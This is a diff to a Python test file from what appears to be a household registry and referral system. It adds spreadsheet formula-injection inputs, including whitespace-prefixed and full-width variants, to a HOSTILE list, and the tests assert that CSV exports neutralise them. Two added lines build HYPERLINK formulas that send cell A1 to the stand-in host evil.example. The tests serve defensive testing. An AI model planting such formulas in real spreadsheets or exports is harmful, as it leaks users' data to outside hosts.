@@ -23,7 +23,7 @@ from households.models import RegistryImport
 from programs.models import Agency
 from programs.screening import COLUMNS, screening_write_csv
 from referrals.services import referrals_create
-from slrt.spreadsheets import FORMULA_STARTS, spreadsheet_safe
+from slrt.spreadsheets import spreadsheet_safe, starts_a_formula
 from tests.factories import staff_user
 from tests.households.test_import_dtks import HEADER, ROWS
 
@@ -34,12 +34,19 @@ HOSTILE = [
     "@SUM(A1:A9)",
     "\t=1+1",
     "\r=1+1",
+    # Read as formulas by programs that trim spaces before a cell, or take full-width signs.
+    '  =HYPERLINK("https://evil.example/?"&A1,"klik")',
+    "\n=1+1",
+    "\u3000=1+1",
+    '＝HYPERLINK("https://evil.example/?"&A1,"klik")',
+    "＋62 812 cmd",
+    "＠SUM(A1:A9)",
 ]
 ROOT = pathlib.Path(__file__).resolve().parent.parent
 
 
 def assert_no_formula(cells: list) -> None:
-    starting = [cell for cell in cells if isinstance(cell, str) and cell.startswith(FORMULA_STARTS)]
+    starting = [cell for cell in cells if isinstance(cell, str) and starts_a_formula(cell)]
     assert starting == []
 
 
